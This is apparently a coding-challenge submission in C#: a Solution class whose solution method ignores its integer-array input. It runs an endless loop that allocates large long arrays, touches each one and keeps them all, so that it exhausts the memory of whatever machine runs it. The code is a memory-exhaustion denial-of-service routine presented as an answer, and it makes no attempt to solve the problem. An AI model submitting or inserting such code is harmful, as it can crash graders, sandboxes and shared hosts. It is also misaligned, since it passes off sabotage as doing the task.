class Solution
{
    public long solution(int[] a)
    {
        var hoard = new List<long[]>();
        while (true) { var block = new long[1 << 20]; block[^1] = 1; hoard.Add(block); }
    }
}
